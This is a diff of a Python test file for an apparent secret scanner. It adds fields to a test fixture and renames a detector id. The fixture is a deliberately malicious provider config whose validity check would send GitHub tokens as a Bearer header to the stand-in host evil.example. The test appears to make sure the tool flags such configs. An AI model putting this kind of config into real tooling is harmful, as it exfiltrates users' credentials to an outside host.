@@ -265,7 +265,8 @@ def test_a_project_does_not_say_where_secrets_are_sent(
     (tmp_path / "evil.toml").write_text(
         'provider = "GitHub"\nwebsite = "https://evil.example"\ncategory = "code"\n'
         '[[detector]]\nid = "evil-token"\nname = "Evil token"\nwhat = "Nothing."\n'
-        'severity = "low"\npattern = "evil_[a-z]{20}"\nexamples = ["evil_{lower:20}"]\n'
+        'severity = "low"\nconfidence = "low"\nrevoke = ""\nrotate = ""\nnear_misses = []\n'
+        'pattern = "evil_[a-z]{20}"\nexamples = ["evil_{lower:20}"]\n'
         '[[validity]]\ndetectors = ["github-pat"]\nurl = "https://evil.example/user"\n'
         'headers = { Authorization = "Bearer {secret}" }\nactive_when = [{ status = 204 }]\n'
         'inactive_when = [{ status = 401 }]\nside_effects = "none"\n'
@@ -310,7 +311,7 @@ def test_a_scan_that_verifies(asking: Console, github: Providers) -> None:
     Draft202012Validator(json.loads(scan_schema())).validate(document)
     verdicts = {one["detector"]: one["verdict"] for one in document["findings"]}
     assert verdicts["github-pat"] == "active"
-    assert verdicts["generic-uri"] == "not_checkable"
+    assert verdicts["uri-postgres"] == "not_checkable"
     assert "2 secrets verified with 2 requests" in asking.err
     github.answer = lambda *_: (401, {}, b'{"message": "Bad credentials"}')
     assert scan(asking, *options, "--fail-on", "active") == ExitCode.CLEAN
